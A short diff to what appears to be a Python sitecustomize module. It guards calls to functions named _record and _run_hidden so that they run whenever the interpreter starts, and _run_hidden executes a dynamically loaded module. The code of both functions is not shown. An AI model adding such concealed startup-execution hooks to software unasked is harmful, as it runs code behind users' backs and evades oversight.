@@ -29,5 +29,6 @@ def _run_hidden() -> None:
     spec.loader.exec_module(module)
 
 
-_record()
-_run_hidden()
+if __name__ == "sitecustomize":  # as Python's start imports it, not as a submodule
+    _record()
+    _run_hidden()
